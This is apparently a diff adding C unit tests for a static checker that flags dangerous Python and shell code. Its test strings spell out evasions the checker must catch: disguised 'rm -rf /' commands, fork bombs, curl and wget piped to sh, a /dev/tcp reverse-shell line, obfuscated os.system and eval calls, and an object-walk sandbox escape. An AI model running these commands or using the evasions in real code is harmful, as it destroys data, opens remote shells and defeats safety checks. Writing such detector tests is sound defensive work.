@@ -1,0 +1,341 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+#include "unit.h"
+
+#include "base/cleanup.h"
+#include "base/clock.h"
+#include "check/danger_rules.h"
+#include "check/tree.h"
+
+/* VALD-04: every danger rule finds its positive example and leaves its negative alone, so a rule
+ * that is taken away or loosened fails here; names are resolved, text is not. */
+
+static void find(const char *text, enum bj_language language, struct bj_findings *findings)
+{
+	const struct bj_check_request request = {
+		.language = language,
+		.text = text,
+		.size = strlen(text),
+		.policy = BJ_POLICY_STRICT,
+	};
+	struct bj_tree *tree = NULL;
+	struct bj_err err = { 0 };
+
+	assert_int_equal(bj_tree_new(&request, &tree, &err), 0);
+	assert_int_equal(bj_layer_dangers(&request, tree, NULL, 0, findings, &err), 0);
+	bj_tree_free(tree);
+}
+
+static bool finds(const char *text, enum bj_language language, const char *rule)
+{
+	struct bj_findings findings = { 0 };
+	bool found = false;
+
+	find(text, language, &findings);
+	for (size_t i = 0; i < findings.n; i++)
+		found |= !strcmp(findings.items[i].rule->id, rule);
+	bj_findings_done(&findings);
+	return found;
+}
+
+/* The highest severity found, -1: none. */
+static int worst(const char *text, enum bj_language language)
+{
+	struct bj_findings findings = { 0 };
+	int most = -1;
+
+	find(text, language, &findings);
+	for (size_t i = 0; i < findings.n; i++)
+		if ((int)findings.items[i].rule->severity > most)
+			most = (int)findings.items[i].rule->severity;
+	bj_findings_done(&findings);
+	return most;
+}
+
+static bool by_code(const char *id)
+{
+	return !strcmp(id, "py-gave-up") || !strcmp(id, "sh-gave-up");
+}
+
+static void every_rule_holds_by_its_examples(void **state)
+{
+	size_t n, python = 0, bash = 0, wrong = 0;
+	const struct bj_rule *rules = bj_rules_dangers(&n);
+
+	(void)state;
+	for (size_t i = 0; i < n; i++) {
+		const enum bj_language language = (enum bj_language)rules[i].language;
+
+		*(language == BJ_LANG_PYTHON ? &python : &bash) += 1;
+		if (!by_code(rules[i].id) && !finds(rules[i].positive, language, rules[i].id)) {
+			print_error("%s does not find its positive example\n", rules[i].id);
+			wrong++;
+		}
+		if (finds(rules[i].negative, language, rules[i].id)) {
+			print_error("%s finds its negative example\n", rules[i].id);
+			wrong++;
+		}
+	}
+	assert_int_equal(wrong, 0);
+	assert_true(python >= 40);
+	assert_true(bash >= 40);
+}
+
+/* The ways to say eval, os.system and import without writing them. */
+static const struct {
+	const char *text;
+	const char *rule;
+} hidden[] = {
+	{ "from os import system as s\ns('x')\n", "py-os-system" },
+	{ "import os as o\no.system('x')\n", "py-os-system" },
+	{ "from os import *\nsystem('x')\n", "py-os-system" },
+	{ "__import__('o' + 's').system('x')\n", "py-os-system" },
+	{ "__import__('so'[::-1]).system('x')\n", "py-os-system" },
+	{ "import importlib as i\ni.import_module('os').system('x')\n", "py-os-system" },
+	{ "import os\ngetattr(os, 'sys' + 'tem')('x')\n", "py-os-system" },
+	{ "import os\na = 'sys'\nb = 'tem'\ngetattr(os, a + b)('x')\n", "py-os-system" },
+	{ "import os\ngetattr(os, f'sys{\"tem\"}')('x')\n", "py-os-system" },
+	{ "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('x')\n", "py-os-system" },
+	{ "import os\ngetattr(os, 'sys{}'.format('tem'))('x')\n", "py-os-system" },
+	{ "import os\ngetattr(os, ''.join(['sys', 'tem']))('x')\n", "py-os-system" },
+	{ "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('x')\n",
+	  "py-os-system" },
+	{ "import os\ngetattr(os, b'system'.decode())('x')\n", "py-os-system" },
+	{ "import os\ngetattr(os, '\\x73ystem')('x')\n", "py-os-system" },
+	{ "import os\nos.__dict__['system']('x')\n", "py-os-system" },
+	{ "import os\nvars(os)['system']('x')\n", "py-os-system" },
+	{ "import os\nos.__getattribute__('system')('x')\n", "py-os-system" },
+	{ "import sys\nsys.modules['os'].system('x')\n", "py-os-system" },
+	{ "import os, operator\noperator.attrgetter('system')(os)('x')\n", "py-os-system" },
+	{ "import os, functools\nfunctools.partial(os.system, 'x')()\n", "py-os-system" },
+	{ "import shutil\nshutil.os.system('x')\n", "py-os-system" },
+	{ "import os\nclass A:\n    run = os.system\nA().run('x')\n", "py-os-system" },
+	{ "import os\nclass A:\n    def __init__(self):\n        self.r = os.system\n"
+	  "    def go(self):\n        self.r('x')\n",
+	  "py-os-system" },
+	{ "import base64\nimport os\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')\n",
+	  "py-os-system" },
+	{ "import os\nfor f in [os.system]:\n    f('x')\n", "py-os-system" },
+	{ "e = eval\ne('x')\n", "py-eval" },
+	{ "def f(g=eval):\n    g('x')\n", "py-eval" },
+	{ "d = {'a': eval}\nd['a']('x')\n", "py-eval" },
+	{ "[eval][0]('x')\n", "py-eval" },
+	{ "(lambda: eval)()('x')\n", "py-eval" },
+	{ "def f():\n    return eval\nf()('x')\n", "py-eval" },
+	{ "(eval if x else eval)('x')\n", "py-eval" },
+	{ "(e := eval)('x')\n", "py-eval" },
+	{ "list(map(eval, lines))\n", "py-eval" },
+	{ "__builtins__['eval']('x')\n", "py-eval" },
+	{ "__builtins__.eval('x')\n", "py-eval" },
+	{ "__builtins__.__dict__['ev' + 'al']('x')\n", "py-eval" },
+	{ "globals()['__builtins__']['eval']('x')\n", "py-eval" },
+	{ "globals()['__builtins__'].eval('x')\n", "py-eval" },
+	{ "getattr(__builtins__, 'ev' 'al')('x')\n", "py-eval" },
+	{ "import builtins as b\nb.eval('x')\n", "py-eval" },
+	{ "from builtins import eval as e\ne('x')\n", "py-eval" },
+	{ "\xef\xbd\x85val('x')\n", "py-eval" },
+	{ "def eval(x):\n    pass\ndel eval\neval('x')\n", "py-eval" },
+	{ "eval('x')\ndef eval(x):\n    pass\n", "py-eval" },
+	{ "if 0:\n    def eval(x):\n        pass\neval('x')\n", "py-eval" },
+	{ "eval = eval\neval('x')\n", "py-eval" },
+	{ "@eval\ndef f(): pass\n", "py-eval" },
+	{ "def f():\n    late('x')\nlate = eval\nf()\n", "py-eval" },
+	{ "import subprocess\nsubprocess.run('x', **{'shell': True})\n", "py-subprocess-shell" },
+	{ "import subprocess\nsubprocess.Popen('x', shell=1)\n", "py-subprocess-shell" },
+	{ "import threading, os\nthreading.Thread(target=os.system, args=('x',))\n",
+	  "py-os-system" },
+	{ "''.__class__.__mro__[1].__subclasses__()[3]('x')\n", "py-object-walk" },
+};
+
+static void hidden_names_are_found(void **state)
+{
+	size_t missed = 0;
+
+	(void)state;
+	for (size_t i = 0; i < BJ_ARRAY_SIZE(hidden); i++)
+		if (!finds(hidden[i].text, BJ_LANG_PYTHON, hidden[i].rule)) {
+			print_error("not found as %s:\n%s\n", hidden[i].rule, hidden[i].text);
+			missed++;
+		}
+	assert_int_equal(missed, 0);
+}
+
+static const struct {
+	const char *text;
+	const char *rule;
+} hidden_shell[] = {
+	{ "r\\m -rf /\n", "sh-rm-root" },
+	{ "r''m -rf /\n", "sh-rm-root" },
+	{ "\"rm\" -rf /\n", "sh-rm-root" },
+	{ "$'\\x72m' -rf /\n", "sh-rm-root" },
+	{ "x=rm\n$x -rf /\n", "sh-rm-root" },
+	{ "rm${IFS}-rf${IFS}/\n", "sh-rm-root" },
+	{ "$(echo rm) -rf /\n", "sh-rm-root" },
+	{ "/bin/rm --recursive --force /\n", "sh-rm-root" },
+	{ "sudo -u root env A=b nohup rm -rf /\n", "sh-rm-root" },
+	{ "command rm -rf //\n", "sh-rm-root" },
+	{ "rm -rf /etc/../\n", "sh-rm-root" },
+	{ "rm -rf $HOME\n", "sh-rm-root" },
+	{ "rm -rf ~/*\n", "sh-rm-root" },
+	{ "busybox rm -rf /\n", "sh-rm-root" },
+	{ "find / | xargs rm -rf /\n", "sh-rm-root" },
+	{ "bash -c 'rm -rf /'\n", "sh-rm-root" },
+	{ "eval 'rm -rf /'\n", "sh-rm-root" },
+	{ "echo 'rm -rf /' | sh\n", "sh-rm-root" },
+	{ "bash <<X\nrm -rf /\nX\n", "sh-rm-root" },
+	{ "trap 'rm -rf /' EXIT\n", "sh-rm-root" },
+	{ "if true; then rm -rf /; fi\n", "sh-rm-root" },
+	{ "f() { rm -rf /; }\n", "sh-rm-root" },
+	{ "x=$(rm -rf /)\n", "sh-rm-root" },
+	{ ":(){ :|:& };:\n", "sh-fork-bomb" },
+	{ "bomb() { bomb | bomb & }; bomb\n", "sh-fork-bomb" },
+	{ "function f { f & f; }; f\n", "sh-fork-bomb" },
+	{ "wget -qO- http://x | sh\n", "sh-curl-shell" },
+	{ "curl x | tee y | bash -s --\n", "sh-curl-shell" },
+	{ "sh -c \"$(curl -fsSL x)\"\n", "sh-curl-substitution" },
+	{ "source <(curl x)\n", "sh-curl-substitution" },
+	{ "eval `wget -O- x`\n", "sh-curl-substitution" },
+	{ "python3 -c 'import os; os.system(\"x\")'\n", "py-os-system" },
+	{ "python3 <<X\neval('x')\nX\n", "py-eval" },
+	{ "exec 3<>/dev/tcp/1.2.3.4/80\n", "sh-dev-tcp" },
+	{ "0<&196;exec 196<>/dev/tcp/1.2.3.4/80; sh <&196 >&196 2>&196\n", "sh-dev-tcp" },
+};
+
+static void hidden_commands_are_found(void **state)
+{
+	size_t missed = 0;
+
+	(void)state;
+	for (size_t i = 0; i < BJ_ARRAY_SIZE(hidden_shell); i++)
+		if (!finds(hidden_shell[i].text, BJ_LANG_BASH, hidden_shell[i].rule)) {
+			print_error("not found as %s:\n%s\n", hidden_shell[i].rule,
+				    hidden_shell[i].text);
+			missed++;
+		}
+	assert_int_equal(missed, 0);
+}
+
+static void own_functions_are_not_builtins(void **state)
+{
+	(void)state;
+	assert_int_equal(worst("def eval(x):\n    return x\neval('1')\n", BJ_LANG_PYTHON),
+			 BJ_SEV_LOW);
+	assert_int_equal(worst("def f(exec):\n    exec('1')\n", BJ_LANG_PYTHON), BJ_SEV_LOW);
+	assert_int_equal(
+		worst("class A:\n    def exec(self):\n        self.exec()\n", BJ_LANG_PYTHON), -1);
+	assert_int_equal(
+		worst("class A:\n    def eval(self):\n        eval('x')\n", BJ_LANG_PYTHON),
+		BJ_SEV_HIGH);
+}
+
+static void words_in_text_are_not_calls(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		worst("# eval('x')\ns = \"os.system('x')\"\n'''exec(1)'''\n", BJ_LANG_PYTHON), -1);
+	assert_int_equal(
+		worst("# rm -rf /\necho 'rm -rf /'\nprintf \"%s\" ':(){ :|:& };:'\n", BJ_LANG_BASH),
+		-1);
+}
+
+/* A script for which the parser gave up is never let through. */
+static void giving_up_is_a_finding(void **state)
+{
+	const struct bj_check_request request = { .language = BJ_LANG_PYTHON, .text = "" };
+	const struct bj_tree tree = { .language = BJ_LANG_PYTHON, .text = "", .gave_up = true };
+	struct bj_findings findings = { 0 };
+
+	(void)state;
+	assert_int_equal(bj_layer_dangers(&request, &tree, NULL, 0, &findings, NULL), 0);
+	assert_int_equal(findings.n, 1);
+	assert_string_equal(findings.items[0].rule->id, "py-gave-up");
+	bj_findings_done(&findings);
+}
+
+static void rules_of_the_user_are_found(void **state)
+{
+	const struct bj_call_rule extra = {
+		.rule = { .id = "mine",
+			  .layer = "dangers",
+			  .language = BJ_RULE_PYTHON,
+			  .severity = BJ_SEV_HIGH,
+			  .message = "No." },
+		.call = "json.dumps",
+	};
+	const char *text = "from json import dumps as d\nd({})\n";
+	const struct bj_check_request request = { .text = text, .size = strlen(text) };
+	struct bj_findings findings = { 0 };
+	struct bj_tree *tree = NULL;
+
+	(void)state;
+	assert_int_equal(bj_tree_new(&request, &tree, NULL), 0);
+	assert_int_equal(bj_layer_dangers(&request, tree, &extra, 1, &findings, NULL), 0);
+	assert_int_equal(findings.n, 1);
+	assert_string_equal(findings.items[0].rule->id, "mine");
+	assert_int_equal(findings.items[0].start, 28);
+	bj_findings_done(&findings);
+	bj_tree_free(tree);
+}
+
+/* Text of @size bytes: @head, then @unit over and over. */
+static char *repeat(const char *unit, size_t size)
+{
+	const size_t len = strlen(unit);
+	char *text = malloc(size + 1);
+
+	assert_non_null(text);
+	for (size_t i = 0; i < size; i++)
+		text[i] = unit[i % len];
+	text[size] = '\0';
+	return text;
+}
+
+static double seconds_for(const char *text, enum bj_language language)
+{
+	struct bj_findings findings = { 0 };
+	const uint64_t start = bj_clock_now();
+
+	find(text, language, &findings);
+	bj_findings_done(&findings);
+	return (double)(bj_clock_now() - start) / 1e9;
+}
+
+/* Nesting and repetition of any kind: no crash, no quadratic time, and never a pass for what was
+ * not read. */
+static void hostile_text_is_read_in_linear_time(void **state)
+{
+	static const char *const units[] = {
+		"(",       "[",        "lambda:", "f(",   "a.",         "a=",   "-",          "{",
+		"if 1:\n", "x=eval\n", "'a'+",    "not ", "eval(x);\n", "a[0]", "def f():\n "
+	};
+	static const char *const shell_units[] = { "(",     "{ ",    "$(",    "if x; then ",
+						   "a|",    "`",     "rm ",   "\"$(",
+						   "a() {", "${a:-", "<<X\n", "sh -c " };
+
+	(void)state;
+	for (size_t i = 0; i < BJ_ARRAY_SIZE(units) + BJ_ARRAY_SIZE(shell_units); i++) {
+		const bool py = i < BJ_ARRAY_SIZE(units);
+		const char *unit = py ? units[i] : shell_units[i - BJ_ARRAY_SIZE(units)];
+		AUTO_FREE char *text = repeat(unit, 100000);
+		const double t = seconds_for(text, py ? BJ_LANG_PYTHON : BJ_LANG_BASH);
+
+		if (t > 3)
+			print_error("%g s for '%s'\n", t, unit);
+		assert_true(t <= 3);
+	}
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(every_rule_holds_by_its_examples),
+		cmocka_unit_test(hidden_names_are_found),
+		cmocka_unit_test(hidden_commands_are_found),
+		cmocka_unit_test(own_functions_are_not_builtins),
+		cmocka_unit_test(words_in_text_are_not_calls),
+		cmocka_unit_test(giving_up_is_a_finding),
+		cmocka_unit_test(rules_of_the_user_are_found),
+		cmocka_unit_test(hostile_text_is_read_in_linear_time),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
